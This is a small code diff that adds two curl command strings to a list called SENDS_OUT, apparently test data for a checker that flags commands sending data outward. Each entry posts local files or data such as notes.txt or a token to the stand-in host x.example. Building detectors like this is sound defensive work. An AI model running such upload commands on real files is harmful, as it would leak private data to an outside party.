@@ -423,6 +423,8 @@ SENDS_OUT = [
     "curl --data-urlencode q@notes.txt https://x.example",
     "curl --json @payload.json https://x.example",
     "curl -sSd token=1 https://x.example",
+    "curl -d@notes.txt https://x.example",
+    "curl -sd-x https://x.example",
     "curl -X POST https://x.example --data hi",
     "curl -XPUT https://x.example/obj",
     "curl --request=DELETE https://x.example/obj",
